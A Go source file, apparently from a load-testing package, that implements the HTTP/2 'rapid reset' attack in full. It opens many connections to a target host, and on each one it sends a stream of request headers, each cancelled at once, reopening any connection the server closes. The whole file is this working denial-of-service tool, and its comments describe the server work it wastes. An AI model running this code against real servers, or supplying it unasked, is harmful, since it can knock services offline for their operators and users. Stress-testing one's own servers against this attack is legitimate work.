package load

import (
	"bytes"
	"context"
	"net"
	"net/url"
	"sync"
	"sync/atomic"

	frames "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Resets is a crowd of HTTP/2 connections that ask and take it back at once, over and over:
// each request is work that the server does for nobody, and counts against no limit of streams.
type Resets struct {
	stop  context.CancelFunc
	wg    sync.WaitGroup
	asked atomic.Int64
	ended atomic.Int64
}

// RapidResets begins n such connections, from an address or, when it is nil, from whichever the
// system takes. One that the server ends, or does not take, is opened anew.
func RapidResets(ctx context.Context, base, path string, from net.Addr, n int) (*Resets, error) {
	u, err := url.Parse(base)
	if err != nil {
		return nil, err
	}
	ctx, stop := context.WithCancel(ctx)
	c := &Resets{stop: stop}
	for range n {
		c.wg.Go(func() {
			for ctx.Err() == nil {
				c.ask(ctx, u.Host, path, from)
				c.ended.Add(1)
			}
		})
	}
	return c, nil
}

// Asked is how many requests were sent and taken back; Ended, how many connections ended.
func (c *Resets) Asked() int64 { return c.asked.Load() }

// Ended is how many connections the server put an end to.
func (c *Resets) Ended() int64 { return c.ended.Load() }

// Close ends all.
func (c *Resets) Close() {
	c.stop()
	c.wg.Wait()
}

// ask is one connection until its end.
func (c *Resets) ask(ctx context.Context, host, path string, from net.Addr) {
	d := net.Dialer{LocalAddr: from}
	conn, err := d.DialContext(ctx, "tcp", host)
	if err != nil {
		return
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	defer func() { _ = conn.Close() }()
	var head bytes.Buffer
	enc := hpack.NewEncoder(&head)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", host}, {":path", path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a buffer takes all
	}
	if _, err := conn.Write([]byte(frames.ClientPreface)); err != nil {
		return
	}
	fr := frames.NewFramer(conn, conn)
	if fr.WriteSettings() != nil {
		return
	}
	go func() { // ends with the connection
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				_ = conn.Close()
				return
			}
			if _, ok := f.(*frames.GoAwayFrame); ok {
				_ = conn.Close()
				return
			}
		}
	}()
	for id := uint32(1); id < 1<<31-1; id += 2 {
		err := fr.WriteHeaders(frames.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
		if err != nil || fr.WriteRSTStream(id, frames.ErrCodeCancel) != nil {
			return
		}
		c.asked.Add(1)
	}
}
